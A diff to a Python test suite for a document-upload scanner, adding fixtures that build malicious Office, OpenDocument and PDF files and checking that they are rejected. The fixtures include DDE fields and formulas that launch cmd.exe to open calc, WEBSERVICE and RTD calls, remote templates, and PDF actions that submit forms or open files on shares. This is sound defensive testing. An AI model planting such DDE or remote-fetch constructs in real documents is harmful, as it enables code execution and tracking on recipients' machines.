@@ -124,6 +124,36 @@ def ooxml(code: str, more: dict[str, bytes] | None = None, *, main_type: str = "
     return zipped({"[Content_Types].xml": types.encode(), "_rels/.rels": relations.encode(), part: body.encode(), **(more or {})})
 
 
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
+LOADED = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
+
+
+def field(*codes: str, shown: str = "1") -> str:
+    """A field of Word: its code in as many runs, then what it shows."""
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
+    runs = "".join(code if code.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
+    return f"{mark('begin')}{runs}{mark('separate')}<w:r><w:t>{shown}</w:t></w:r>{mark('end')}"
+
+
+def written(inside: str, part: str = "word/document.xml") -> bytes:
+    """A docx one part of which holds this."""
+    return ooxml("docx", {part: f"<w:document {W}><w:body><w:p>{inside}</w:p></w:body></w:document>".encode()})
+
+
+def computed(*formulas: str, element: str = "f", part: str = "xl/worksheets/sheet1.xml") -> bytes:
+    """An xlsx whose cells hold these formulas."""
+    cells = "".join(f"<c><{element}>{formula}</{element}></c>" for formula in formulas)
+    return ooxml("xlsx", {part: f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>".encode()})
+
+
+def opened(inside: str, kind: str = "text") -> bytes:
+    """An OpenDocument whose content is this; the prefixes are those that LibreOffice writes."""
+    names = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("office", "text", "draw", "table", "script", "presentation", "of"))
+    body = f"<office:document-content {names} {XLINK}><office:body>{inside}</office:body></office:document-content>"
+    return odf(kind, {"content.xml": body.encode()})
+
+
 def external(kind: str, target: str) -> str:
     return f'<Relationship Id="r9" Type="LINK/{kind}" Target="{target}" TargetMode="External"/>'
 
@@ -340,11 +370,13 @@ def _bad_zips() -> Iterator[Bad]:
     yield "VBA in docx", "contrat.docx", ooxml("docx", {"word/vbaProject.bin": b"\0" * 50}), "macros"
     yield "old macro sheet in xlsx", "budget.xlsx", ooxml("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"
     yield "ActiveX in docx", "contrat.docx", ooxml("docx", {"word/activeX/activeX1.xml": b"<a/>"}), "macros"
-    yield "DDE field in docx", "contrat.docx", ooxml("docx", {"word/footer1.xml": b'<a>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</a>'}), "macros"
+    yield "DDE field in docx", "contrat.docx", written(field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "word/footer1.xml"), "acts"
     yield "Basic in odt", "contrat.odt", odf(more={"Basic/Standard/Module1.xml": b"<a/>"}), "macros"
     yield "script event in ods", "budget.ods", odf("spreadsheet", {"settings.xml": b'<a href="vnd.sun.star.script:x"/>'}), "macros"
     yield "remote template", "contrat.docx", ooxml("docx", rels=external("attachedTemplate", "https://x.example.org/t.dotm")), "remote"
     yield "picture on a file share", "contrat.docx", ooxml("docx", rels=external("image", "\\\\x.example.org\\a\\b.png")), "remote"
+    yield from _documents_that_act()
+    yield from _documents_that_fetch()
     yield "exe in docx", "contrat.docx", ooxml("docx", {"word/media/image1.png": b"MZ" + b"\0" * 90}), "embedded"
     yield "OLE object in docx", "contrat.docx", ooxml("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "embedded"
     yield "zip in docx", "contrat.docx", ooxml("docx", {"word/media/a.png": zipped({"a": b"a"})}), "embedded"
@@ -368,6 +400,62 @@ def _bad_zips() -> Iterator[Bad]:
     yield "broken relations", "contrat.docx", ooxml("docx", {"word/_rels/document.xml.rels": b"<a><b></a>"}), "damaged"
 
 
+def _documents_that_act() -> Iterator[Bad]:
+    command = r'c:\\windows\\system32\\cmd.exe "/k calc"'
+    yield "DDE field in two runs", "contrat.docx", written(field("DDE", f"AUTO {command}")), "acts"
+    yield "DDE field with a reference", "contrat.docx", written(field(f"DDE&#65;UTO {command}")), "acts"
+    yield "DDE field that asks", "contrat.docx", written(field(f" dde {command}")), "acts"
+    begun = f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE {command}</w:instrText></w:r>'
+    yield "DDE field without its result", "contrat.docx", written(begun), "acts"
+    yield "DDE field outside a field", "contrat.docx", written(f"<w:r><w:instrText>DDE {command}</w:instrText></w:r>"), "acts"
+    yield "DDE field in one element", "contrat.docx", written(f"<w:fldSimple w:instr='DDEAUTO {command}'/>"), "acts"
+    yield "DDE field named by another field", "contrat.docx", written(field(field(" QUOTE 68 68 69 ", shown="DDE"), f" {command}")), "acts"
+    yield "DDE field in a part of another name", "contrat.docx", written(field(f"DDE {command}"), "word/document.bin"), "acts"
+    yield "DDE formula in xlsx", "budget.xlsx", computed("cmd|'/c calc'!A0"), "acts"
+    yield "DDE formula behind a name", "budget.xlsx", computed("cmd|'/c calc'!A0", element="definedName", part="xl/a.xml"), "acts"
+    link = b'<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>'
+    yield "DDE link in xlsx", "budget.xlsx", ooxml("xlsx", {"xl/externalLinks/externalLink1.xml": link}), "acts"
+    yield "data server in xlsx", "budget.xlsx", computed('RTD("x.y",,"a")'), "acts"
+    yield "fields a hundred deep", "contrat.docx", written('<w:fldChar w:fldCharType="begin"/>' * 100), "too_complex"
+    yield "formula too long to be one", "budget.xlsx", computed("1+" * 40_000), "too_complex"
+    yield "nine million empty elements", "budget.xlsx", ooxml("xlsx", {"xl/a.xml": _elements(9_000_000)}), "too_complex"
+    call = '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)"/>'
+    yield "DDE in ods", "budget.ods", opened(call, "spreadsheet"), "acts"
+    yield "DDE section in odt", "contrat.odt", opened('<text:section><office:dde-source office:dde-application="cmd"/></text:section>'), "acts"
+    hover = b'<p><hlinkMouseOver action="ppaction://program"/></p>'
+    yield "program behind a shape of a slide", "diapos.pptx", ooxml("pptx", {"ppt/slides/slide1.xml": hover}), "acts"
+    run = '<presentation:event-listener presentation:action="execute" xlink:href="file:///c:/windows/calc.exe"/>'
+    yield "program behind a shape of an odp", "diapos.odp", opened(run, "presentation"), "acts"
+    yield "script event with a reference", "contrat.odt", opened('<script:event-listener xlink:href="vnd.sun.star.scr&#105;pt:x"/>'), "macros"
+    yield "script event of an extension", "contrat.odt", opened('<script:event-listener xlink:href="service:a.b?c"/>'), "macros"
+    yield "script event of another language", "contrat.odt", opened('<script:event-listener script:macro-name="x"/>'), "macros"
+    yield "link to a macro", "contrat.odt", opened('<text:a xlink:href="macro:///Standard.a.b">ici</text:a>'), "macros"
+    yield "Basic in the content of odt", "contrat.odt", opened("<script:source-code>Sub a</script:source-code>"), "macros"
+
+
+def _documents_that_fetch() -> Iterator[Bad]:
+    yield "INCLUDEPICTURE from the web", "contrat.docx", written(field(r' INCLUDEPICTURE "https://x.example.org/a.png" \d ')), "remote"
+    yield "INCLUDETEXT from a file share", "contrat.docx", written(field(r' INCLUDETEXT "\\\\x.example.org\\s\\a.docx" ')), "remote"
+    yield "LINK to a web page", "contrat.docx", written(field(" LINK Word.Document.8 https://x.example.org/a.rtf")), "remote"
+    yield "template on a file share", "contrat.docx", ooxml("docx", rels=external("attachedTemplate", "file:///\\\\x.example.org\\a.dotx")), "remote"
+    yield "page that Word takes in", "contrat.docx", ooxml("docx", rels='<Relationship Id="r9" Type="LINK/aFChunk" Target="/word/a.mht"/>'), "embedded"
+    yield "picture drawn by VML", "contrat.docx", written('<v:imagedata xmlns:v="urn:v" src="https://x.example.org/a.png"/>'), "remote"
+    yield "WEBSERVICE in xlsx", "budget.xlsx", computed('_xlfn.WEBSERVICE("https://x.example.org/?"&amp;A2)'), "remote"
+    yield "formula on a workbook of a file share", "budget.xlsx", computed(r"'\\x.example.org\s\[a.xlsx]Feuil1'!A1"), "remote"
+    connection = b'<a><connection refreshOnLoad="1"/></a>'
+    yield "connection made on opening", "budget.xlsx", ooxml("xlsx", {"xl/connections.xml": connection}), "remote"
+    service = '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://x.example.org/&quot;)"/>'
+    yield "WEBSERVICE in ods", "budget.ods", opened(service, "spreadsheet"), "remote"
+    yield "WEBSERVICE behind a name of ods", "budget.ods", opened(service.replace("formula", "expression"), "spreadsheet"), "remote"
+    yield "WEBSERVICE behind a condition of ods", "budget.ods", opened('<a:condition a:value="WEBSERVICE(1)" xmlns:a="a"/>', "spreadsheet"), "remote"
+    other = "<table:table-cell table:formula=\"of:=['https://x.example.org/a.ods'#$F.A1]\"/>"
+    yield "formula on a workbook of the web in ods", "budget.ods", opened(other, "spreadsheet"), "remote"
+    yield "table of the web in ods", "budget.ods", opened('<table:table-source xlink:href="https://x.example.org/a.ods"/>', "spreadsheet"), "remote"
+    yield "picture of the web in odt", "contrat.odt", opened(f'<draw:image xlink:href="https://x.example.org/a.png" {LOADED}/>'), "remote"
+    for at in ("file://x.example.org/s/a.odt", "file:////x/a.odt", "file:%5C%5Cx/a.odt", " \\\\x\\a.odt", "//x/a.odt", "vnd.sun.star.webdav://x/a"):
+        yield f"section at {at}", "contrat.odt", opened(f'<text:section-source xlink:href="{at}"/>'), "remote"
+
+
 def _bad_pdfs() -> Iterator[Bad]:
     script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
     yield "HTML called PDF", "contrat.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "markup"
@@ -381,6 +469,7 @@ def _bad_pdfs() -> Iterator[Bad]:
     yield "attachment as a note", "contrat.pdf", annotated(Subtype=Name.FileAttachment), "pdf_attachment"
     yield "film in a PDF", "contrat.pdf", annotated(Subtype=Name.RichMedia), "pdf_media"
     yield "XFA form", "cerfa.pdf", pdf(lambda d: setattr(d.Root, "AcroForm", Dictionary(XFA=String("x"), Fields=Array()))), "pdf_form"
+    yield from _pdfs_that_reach_out()
     yield "PDF with a password", "contrat.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "locked"
     yield "truncated PDF", "contrat.pdf", pdf(pages=30)[:-400], "damaged"
     yield "PDF without pages", "contrat.pdf", pdf(pages=0), "damaged"
@@ -391,6 +480,44 @@ def _bad_pdfs() -> Iterator[Bad]:
     yield "too many pages", "contrat.pdf", pdf(pages=2_001), "pages"
     yield "object stream of 200 MB", "contrat.pdf", object_stream_bomb(), "too_complex"
     yield "brackets 200,000 deep", "contrat.pdf", deep_pdf(), "damaged"
+
+
+def _pdfs_that_reach_out() -> Iterator[Bad]:
+    share, web = String("\\\\x.example.org\\s\\a.pdf"), String("https://x.example.org/")
+    other, site = Dictionary(S=Name.GoToR, F=share, D=Array([0, Name.Fit])), Dictionary(S=Name.URI, URI=web)
+    sending = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=web))
+    local = Dictionary(S=Name.GoToR, F=String("annexe.pdf"), D=Array([0, Name.Fit]))
+    yield "PDF that opens another file", "contrat.pdf", on_open(local), "pdf_launch"
+    yield "PDF that opens a web page", "contrat.pdf", on_open(site), "pdf_elsewhere"
+    yield "PDF that opens a web page at its second step", "contrat.pdf", on_open(Dictionary(S=Name.GoTo, Next=Array([site]))), "pdf_elsewhere"
+    yield "PDF that sends on opening", "contrat.pdf", on_open(sending), "pdf_elsewhere"
+    yield "PDF whose button sends", "contrat.pdf", pdf(lambda d: _button(d, sending)), "pdf_elsewhere"
+    yield "PDF that opens a PDF within another", "contrat.pdf", on_open(Dictionary(S=Name.GoToE, F=share)), "pdf_launch"
+    yield "PDF that reads the articles of another", "contrat.pdf", on_open(Dictionary(S=Name.Thread, F=String("annexe.pdf"))), "pdf_launch"
+    yield "page that opens a file of a share", "contrat.pdf", pdf(lambda d: setattr(d.pages[0].obj, "AA", Dictionary(O=other))), "pdf_launch"
+    yield "web page under the mouse", "contrat.pdf", annotated(Subtype=Name.Link, AA=Dictionary(E=site)), "pdf_elsewhere"
+    yield "link to a file of a share", "contrat.pdf", annotated(Subtype=Name.Link, A=other), "pdf_launch"
+    yield "PDF whose actions never end", "contrat.pdf", pdf(_endless), "too_complex"
+    yield "page that lies elsewhere", "contrat.pdf", pdf(lambda d: _drawn(d, F=Dictionary(FS=Name.URL, F=web))), "pdf_elsewhere"
+    yield "drawing that stands for a page of a share", "contrat.pdf", pdf(lambda d: _drawn(d, Ref=Dictionary(F=share, Page=0))), "pdf_elsewhere"
+
+
+def _drawn(document: pikepdf.Pdf, **entries: object) -> None:
+    drawing = Stream(document, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1], **entries)
+    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(drawing)))
+
+
+def _button(document: pikepdf.Pdf, action: Dictionary) -> None:
+    entries = {"Type": Name.Annot, "Subtype": Name.Widget, "FT": Name.Btn, "T": String("b"), "Rect": [0, 0, 9, 9], "A": action}
+    button = document.make_indirect(Dictionary(**entries))
+    document.pages[0].Annots = Array([button])
+    document.Root.AcroForm = Dictionary(Fields=Array([button]))
+
+
+def _endless(document: pikepdf.Pdf) -> None:
+    action = document.make_indirect(Dictionary(S=Name.GoTo))
+    action.Next = action
+    document.Root.OpenAction = action
 
 
 def _bad_texts() -> Iterator[Bad]:
@@ -456,10 +583,44 @@ def _good_documents() -> Iterator[Good]:
     yield "odt", "Compte rendu.odt", odf(more={"Configurations2/accelerator/current.xml": b""})
     yield "ods", "Budget.ods", odf("spreadsheet")
     yield "odp", "Diapos.odp", odf("presentation")
+    yield "docx with fields", "Programme.docx", written("".join(map(field, _HONEST_FIELDS)) + field("IF ", field(" MERGEFIELD Ville "), ' = "Lyon"'))
+    yield "docx about DDEAUTO", "Securite.docx", written("<w:r><w:t>DDEAUTO c:\\\\cmd.exe, WEBSERVICE(1), cmd|'/c'!A0</w:t></w:r>")
+    yield "xlsx with formulas", "Budget.xlsx", computed(*_HONEST_FORMULAS)
+    note = b'<xml><shape href="https://www.example.org/"><div>a<br>b</div></shape></xml>'
+    yield "xlsx with notes", "Budget.xlsx", ooxml("xlsx", {"xl/drawings/vmlDrawing1.vml": note})
+    jump = b'<p><hlinkClick action="ppaction://hlinksldjump"/></p>'
+    yield "pptx with links", "Diapos.pptx", ooxml("pptx", {"ppt/slides/slide1.xml": jump})
+    yield "odt with a picture and links", "Compte rendu.odt", opened(_HONEST_CONTENT)
+    yield "odt from a template on the author's disk", "Courrier.odt", odf(more={"meta.xml": f'<a {XLINK}><template xlink:href="/C:/M/a.ott"/></a>'.encode()})
+    arrays = '<table:table-cell table:formula="of:=SUM({1;2|3;4})*[.A1]+[$\'Feuil 2\'.A1]"/>'
+    yield "ods with formulas", "Budget.ods", opened(arrays, "spreadsheet")
+    shape = '<presentation:event-listener presentation:action="show" xlink:href="https://www.example.org/"/>'
+    yield "odp with a link behind a shape", "Diapos.odp", opened(shape, "presentation")
     yield "name without extension", "Programme", ooxml("docx")
 
 
+_HONEST_FIELDS = (
+    " PAGE ", r' TOC \o "1-3" \h \z \u ', ' HYPERLINK "https://www.example.org/" ', r' DATE \@ "dd/MM/yyyy" ', " MERGEFIELD Nom ",
+    r' INCLUDEPICTURE "/var/folders/a/image.png" \* MERGEFORMATINET ', r' LINK Excel.Sheet.12 "C:\\Users\\A\\a b.xlsx" "Feuil1!L1C1:L3C4" \a \f 0',
+)
+_HONEST_FORMULAS = (
+    "SUM(A1:A9)", "'Feuil 2'!A1", "'Janvier:Mars'!B2", 'IF(A1="a|b!","n° 1 | n° 2","")', "'Recettes|Dépenses'!A1+'L''année'!A1",
+    "Table1[Nom|Prénom]&amp;Feuil2!A1", "{1,2;3,4}", 'HYPERLINK("https://www.example.org/","site")', r"'C:\Users\A\[a.xlsx]Feuil1'!A1", "[1]Feuil1!A1",
+)
+_HONEST_CONTENT = (
+    '<office:scripts/><text:a xlink:href="https://www.example.org/">site</text:a><text:a xlink:href="mailto:a@example.org">écrire</text:a>'
+    f'<draw:a xlink:href="https://www.example.org/"><draw:image xlink:href="Pictures/1.png" {LOADED}/></draw:a>'
+    '<draw:object xlink:href="./Object 1"/><text:section-source xlink:href="../Annexes/a%20b.odt"/>'
+)
+
+
 # fmt: on
+def _elements(count: int) -> bytes:
+    """Of a kind that a zip does not press too much."""
+    some = "".join(f"<{letter}/>" for letter in Random(1).choices("abcdefgh", k=9_000))
+    return f"<a>{some * (count // 9_000)}</a>".encode()
+
+
 def _cells() -> bytes:
     row = '<row r="{}"><c r="A{}"><v>{}</v></c><c r="B{}" t="s"><v>{}</v></c></row>'
     rows = "".join(row.format(n, n, n * 7919 % 10007, n, n * 31 % 997) for n in range(30_000))
@@ -482,6 +643,11 @@ def _good_pdfs() -> Iterator[Good]:
     yield "linearised PDF", "rapport.pdf", pdf(pages=3, linearize=True)
     yield "PDF that opens on its first page", "rapport.pdf", on_open(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
     yield "PDF with a link", "rapport.pdf", annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.example.org/")))
+    yield "PDF that opens at a place", "rapport.pdf", pdf(lambda d: setattr(d.Root, "OpenAction", Array([d.pages[0].obj, Name.Fit])))
+    annexe = Dictionary(S=Name.GoToR, F=String("annexe.pdf"), D=Array([0, Name.Fit]))
+    yield "PDF with a link to the paper beside it", "rapport.pdf", annotated(Subtype=Name.Link, A=annexe)
+    inside = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(S=Name.Named, N=Name.NextPage))
+    yield "PDF whose page turns by itself", "rapport.pdf", annotated(Subtype=Name.Link, AA=Dictionary(PO=inside))
     yield "PDF with a plain form", "cerfa.pdf", pdf(form)
     yield "PDF that may not be changed, open to read", "kbis.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
     yield "capital extension", "ATTESTATION.PDF", pdf()
